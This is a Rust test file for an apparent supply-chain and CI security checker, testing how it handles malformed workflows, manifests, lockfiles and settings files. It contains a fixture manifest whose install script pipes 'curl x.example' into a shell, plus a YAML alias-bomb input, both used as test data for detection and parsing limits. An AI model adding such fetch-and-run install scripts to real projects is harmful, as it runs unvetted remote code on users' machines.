//! Files that are not what they should be. Each is told with its place, everything else is
//! judged all the same, and a rule that needed the file is unknown, never passed.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::print_stderr,
    reason = "a test fails by panicking, and says why it cannot run here"
)]

mod support;

use support::{PARTS, Report, World};

/// Asserts how each of [`PARTS`] ended, in their order, and that `app` was judged to the end.
#[track_caller]
fn assert_parts(report: &Report, expected: [&str; 5]) {
    let ended: Vec<_> = PARTS.iter().map(|rule| (*rule, report.outcome(rule))).collect();
    let expected: Vec<_> = PARTS.iter().copied().zip(expected).collect();
    assert_eq!(ended, expected, "problems: {:?}", report.problems());
    assert_eq!(report.refusals(), Vec::<String>::new());
}

/// Asserts that the one workflow that can be read has been judged.
#[track_caller]
fn assert_ci_is_judged(report: &Report) {
    let places: Vec<_> = report.findings().into_iter().map(|finding| finding.place).collect();
    assert!(places.contains(&".github/workflows/ci.yml:7:15".to_owned()), "{places:?}");
    assert_eq!(report.code, Some(1));
}

const BAD_WORKFLOW: &str = "app/.github/workflows/bad.yml";

/// A second workflow with this text: a problem, and unknown is what only a clean look would pass.
#[track_caller]
fn assert_workflow_problem(text: &[u8], problem: &str) {
    let world = World::with_app();
    world.write(BAD_WORKFLOW, text);
    let report = world.check_app();
    assert_eq!(report.problems(), [problem]);
    assert_ci_is_judged(&report);
    // Jobs show settings too, so what is missing of workflows is missing of settings.
    assert_parts(&report, ["unknown", "fail", "unknown", "pass", "pass"]);
    let place = report.reason("ci.secret_printed");
    assert!(place.starts_with(".github/workflows/bad.yml"), "{place}");
}

#[test]
fn the_repository_that_these_tests_spoil_is_sound() {
    let report = World::with_app().check_app();
    assert_eq!(report.problems(), Vec::<String>::new());
    assert_ci_is_judged(&report);
    assert_parts(&report, ["pass", "fail", "pass", "pass", "pass"]);
}

#[test]
fn a_workflow_that_is_not_yaml_is_a_problem_at_its_line() {
    for (text, problem) in [
        (
            "<<<<<<< HEAD\non: push\n=======\non: pull_request\n>>>>>>> other\n",
            "malformed .github/workflows/bad.yml:2:1: mapping values are not allowed in this context",
        ),
        (
            "on:\n\tpush: {}\n",
            "malformed .github/workflows/bad.yml:2:2: tabs disallowed within this context (block indentation)",
        ),
        (
            "on: push\njobs: {a: b\n",
            "malformed .github/workflows/bad.yml:2:1: unclosed bracket '{'",
        ),
        (
            "on: [*all]\n",
            "malformed .github/workflows/bad.yml:1:1: alias `*all` names no anchor before it",
        ),
        (
            "on: &on {push: *on}\n",
            "malformed .github/workflows/bad.yml:1:1: alias `*on` stands inside the value that it names",
        ),
        (
            "on: \u{1b}[2J\n",
            "malformed .github/workflows/bad.yml:1:1: unexpected character: `\\u{1b}'",
        ),
        ("", "malformed .github/workflows/bad.yml:1:1: the file is empty"),
        (
            "<!DOCTYPE html>\n",
            "unexpected .github/workflows/bad.yml:1:1: a workflow must be a mapping, and is a scalar",
        ),
        (
            "- on: push\n",
            "unexpected .github/workflows/bad.yml:1:1: a workflow must be a mapping, and is a list",
        ),
        (
            "on: push\njobs: [test]\n",
            "unexpected .github/workflows/bad.yml:2:1: `jobs` must be a mapping, and is a list",
        ),
    ] {
        assert_workflow_problem(text.as_bytes(), problem);
    }
}

#[test]
fn yaml_that_would_explode_is_stopped_at_its_bound() {
    let mut bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n".to_owned();
    for (last, next) in "abcdefgh".chars().zip("bcdefghi".chars()) {
        bomb += &format!("{next}: &{next} [{}]\n", vec![format!("*{last}"); 10].join(", "));
    }
    let limit = "too_large .github/workflows/bad.yml:6:1: alias bomb: aliases expand to more than 500000 values";
    assert_workflow_problem(bomb.as_bytes(), limit);

    let deep = "too_large .github/workflows/bad.yml:2:1: values nest more than 128 levels deep";
    let flow = format!("on: push\njobs: {}{}\n", "[".repeat(10_000), "]".repeat(10_000));
    assert_workflow_problem(flow.as_bytes(), deep);
    assert_workflow_problem(
        format!("on: push\n{}x\n", "- ".repeat(10_000)).as_bytes(),
        "malformed \
        .github/workflows/bad.yml:2:1: while parsing a block mapping, did not find expected key",
    );
    let list = format!("\n{}x\n", "- ".repeat(10_000));
    assert_workflow_problem(list.as_bytes(), deep);
    // One space more a line: the file for 10,000 levels would be larger than what is read.
    let block: String = (0..1_500).map(|depth| format!("{}a:\n", " ".repeat(depth))).collect();
    let deep = "too_large .github/workflows/bad.yml:129:129: values nest more than 128 levels deep";
    assert_workflow_problem(block.as_bytes(), deep);
}

#[test]
fn anchors_and_duplicate_keys_are_read_as_the_last_reader_would() {
    let world = World::with_app();
    let text = "\
on: push
permissions: {}
jobs:
  test: &test
    runs-on: ubuntu-24.04
    steps:
      - &setup
        uses: actions/setup-node@v4
      - *setup
  again: *test
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/cache@v4
";
    world.write(BAD_WORKFLOW, text);
    let report = world.check_app();
    assert_eq!(
        report.problems(),
        ["duplicate_key .github/workflows/bad.yml:11:3: the key `test` stands on line 4 already; \
          the last one counts here, and other readers may differ"]
    );
    assert_parts(&report, ["pass", "fail", "pass", "pass", "pass"]);
    let found = report.findings();
    let found: Vec<_> = found.iter().map(|finding| finding.place.as_str()).collect();
    // `again` has two steps that are one text, which is told once; `test` is what stands there last.
    let expected = [
        ".github/workflows/bad.yml:8:15",
        ".github/workflows/bad.yml:14:15",
        ".github/workflows/ci.yml:7:15",
    ];
    assert_eq!(found, expected);
}

const MARKED: &str = "\u{feff}{\"name\": \"app\", \"version\": \"1.0.0\", \"scripts\": {\"prepare\": \"curl x.example | sh\"}}";

#[test]
fn a_manifest_with_a_byte_order_mark_is_read() {
    let world = World::with_app();
    world.write("app/package.json", MARKED);
    let report = world.check_app();
    assert_eq!(report.problems(), Vec::<String>::new());
    assert_parts(&report, ["pass", "fail", "pass", "pass", "fail"]);
    let found = report.findings();
    let script =
        found.iter().find(|finding| finding.rule == "publish.lifecycle_downloads").unwrap();
    // Columns count characters, and the mark is none.
    assert_eq!(script.place, "package.json:1:78");
}

#[test]
fn a_manifest_that_is_not_json_is_a_problem_at_its_line() {
    let deep = format!("{}1{}", "{\"a\":".repeat(10_000), "}".repeat(10_000));
    for (text, problem) in [
        ("", "malformed package.json:1:1: the file is empty"),
        (" \n\n", "malformed package.json:1:1: the file is empty"),
        (
            "{\"name\": \"app\"}\ntrailing",
            "malformed package.json:2:1: text cannot contain more than one JSON value",
        ),
        (
            "{\"name\": \"app\"} {}",
            "malformed package.json:1:1: text cannot contain more than one JSON value",
        ),
        (
            "{\n  \"name\": \"app\",\n}",
            "malformed package.json:2:3: trailing commas are not allowed",
        ),
        ("// no\n{}", "malformed package.json:1:1: comments are not allowed"),
        ("{'name': 1}", "malformed package.json:1:1: single-quoted strings are not allowed"),
        (
            "{\"name\": \"a\u{1}\"}",
            "malformed package.json:1:1: a control character in a string must be escaped",
        ),
        ("[]", "unexpected package.json:1:1: expected an object, found a list"),
        ("null", "unexpected package.json:1:1: expected an object, found null"),
        (deep.as_str(), "too_large package.json:1:1: values nest more than 128 levels deep"),
    ] {
        let world = World::with_app();
        world.write("app/package.json", text);
        let report = world.check_app();
        assert_eq!(report.problems(), [problem]);
        assert_ci_is_judged(&report);
        assert_parts(&report, ["pass", "fail", "pass", "pass", "unknown"]);
    }
}

#[test]
fn a_lockfile_that_cannot_be_read_leaves_the_rest_judged() {
    for (text, reason) in [
        ("", "malformed package-lock.json:1:1: the lockfile is empty"),
        (
            "{\"lockfileVersion\": 3,}",
            "malformed package-lock.json:1:1: the lockfile cannot be read: trailing comma",
        ),
        ("[]", "malformed package-lock.json:1:1: the lockfile cannot be read"),
        (
            "{\"lockfileVersion\": 9}",
            "package-lock.json:1:1: version 9 of npm's lockfile is not known",
        ),
        ("{}", "package-lock.json:1:1: the lockfile has no `packages`"),
    ] {
        let world = World::with_app();
        world.write("app/package-lock.json", text);
        let report = world.check_app();
        let problems = report.problems();
        assert!(problems.len() == 1 && problems[0].contains(reason), "{text}: {problems:?}");
        assert_ci_is_judged(&report);
        assert_parts(&report, ["pass", "fail", "pass", "unknown", "pass"]);
    }
}

#[test]
fn a_lockfile_of_twenty_megabytes_is_judged_to_its_last_entry() {
    let world = World::with_app();
    let hash = "sha512-Mg6UvQzIGW9ChFQvkf6z1WbHtGkKKnCdqKZ3vGd2zVYVvGjmWcnWPJpNcGTv8dVZ8GdmRbXnRqVcGX3oWeVrWQ==";
    let mut text = String::from("{\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"\": {}");
    let mut count = 0;
    while text.len() < 20 << 20 {
        text += &format!(
            ",\n    \"node_modules/p{count}\": {{\n      \"version\": \"1.0.0\",\n      \"resolved\": \
             \"https://registry.npm.example/p{count}/-/p{count}-1.0.0.tgz\",\n      \"integrity\": \"{hash}\"\n    }}"
        );
        count += 1;
    }
    let line = text.lines().count() + 1;
    text += ",\n    \"node_modules/last\": {\n      \"version\": \"1.0.0\",\n      \"resolved\": \
             \"https://registry.npm.example/last/-/last-1.0.0.tgz\"\n    }\n  }\n}\n";
    world.write("app/package-lock.json", text);
    let report = world.check_app();
    assert_eq!(report.problems(), Vec::<String>::new());
    assert_parts(&report, ["pass", "fail", "pass", "fail", "pass"]);
    let found = report.findings();
    let found: Vec<_> =
        found.iter().filter(|finding| finding.rule == "lockfile.no_integrity").collect();
    assert_eq!(found.len(), 1);
    assert!(
        found[0].place.starts_with(&format!("package-lock.json:{line}:")),
        "{line}: {}",
        found[0].place
    );

    let facts = world.run(&["facts", "app", "--only", "lockfiles"]);
    let facts: serde_json::Value = serde_json::from_slice(&facts.stdout).unwrap();
    assert_eq!(facts["lockfiles"][0]["package_count"], count + 1);
}

#[test]
fn text_that_is_not_utf8_is_a_problem_of_its_own_file() {
    for (file, problem, expected) in [
        (
            ".github/workflows/bad.yml",
            "malformed .github/workflows/bad.yml: is not UTF-8 text: byte 3 cannot be read",
            ["unknown", "fail", "unknown", "pass", "pass"],
        ),
        (
            "package.json",
            "malformed package.json: is not UTF-8 text: byte 3 cannot be read",
            ["pass", "fail", "pass", "pass", "unknown"],
        ),
        (
            "package-lock.json",
            "malformed package-lock.json: the lockfile is not UTF-8 behind byte 3",
            ["pass", "fail", "pass", "unknown", "pass"],
        ),
        (
            ".npmrc",
            "malformed .npmrc: is not UTF-8 text: byte 3 cannot be read",
            ["pass", "fail", "unknown", "pass", "pass"],
        ),
        (
            "pnpm-workspace.yaml",
            "malformed pnpm-workspace.yaml: is not UTF-8 text: byte 3 cannot be read",
            ["pass", "fail", "unknown", "pass", "pass"],
        ),
        (
            "action.yml",
            "malformed action.yml: is not UTF-8 text: byte 3 cannot be read",
            ["unknown", "fail", "unknown", "pass", "pass"],
        ),
    ] {
        let world = World::with_app();
        world.write(&format!("app/{file}"), b"a: \xff\xfe\n");
        let report = world.check_app();
        assert_eq!(report.problems(), [problem]);
        assert_ci_is_judged(&report);
        assert_parts(&report, expected);
    }
    let world = World::with_app();
    world.write("app/CODEOWNERS", b"* \xff\n");
    let report = world.check(&["app", "--rule", "governance.no_codeowners"]);
    assert_eq!(
        report.problems(),
        ["malformed CODEOWNERS: is not UTF-8 text: byte 2 cannot be read"]
    );
    assert_eq!(report.outcome("governance.no_codeowners"), "unknown");
}

#[test]
fn a_file_beyond_the_limit_is_not_read() {
    for (file, limit, expected) in [
        (".github/workflows/bad.yml", 4, ["unknown", "fail", "unknown", "pass", "pass"]),
        // A manifest may hold settings of pnpm.
        ("package.json", 4, ["pass", "fail", "unknown", "pass", "unknown"]),
        (".npmrc", 1, ["pass", "fail", "unknown", "pass", "pass"]),
    ] {
        let world = World::with_app();
        world.write(&format!("app/{file}"), vec![b'\n'; (4 << 20) + 1]);
        let report = world.check_app();
        let problems = report.problems();
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert!(problems[0].starts_with(&format!("too_large {file}")), "{problems:?}");
        assert!(
            problems[0].ends_with(&format!("has more than {limit} MiB, the most that is read")),
            "{problems:?}"
        );
        assert_ci_is_judged(&report);
        assert_parts(&report, expected);
    }
    let world = World::with_app();
    let file = std::fs::File::create(world.path("app/package-lock.json")).unwrap();
    file.set_len((128 << 20) + 1).unwrap();
    let report = world.check_app();
    assert!(report.problems()[0].ends_with("has more than 128 MiB, the most that is read"));
    assert_parts(&report, ["pass", "fail", "pass", "unknown", "pass"]);
}

#[test]
fn settings_that_cannot_be_read_are_problems_of_their_file() {
    for (file, text, problem) in [
        (
            "bunfig.toml",
            "[install]\nregistry =\n",
            "malformed bunfig.toml:2:1: string values must be quoted, expected literal string",
        ),
        (".yarnrc.yml", "npmScopes: {a: b\n", "malformed .yarnrc.yml:1:1: unclosed bracket '{'"),
        (".yarnrc", "registry\n", "malformed .yarnrc:1:1: expected a key and a value"),
        (
            "pnpm-workspace.yaml",
            "- a\n",
            "unexpected pnpm-workspace.yaml:1:1: expected a mapping, found a list",
        ),
    ] {
        let world = World::with_app();
        world.write(&format!("app/{file}"), text);
        let report = world.check_app();
        assert_eq!(report.problems(), [problem]);
        assert_parts(&report, ["pass", "fail", "unknown", "pass", "pass"]);
    }
}
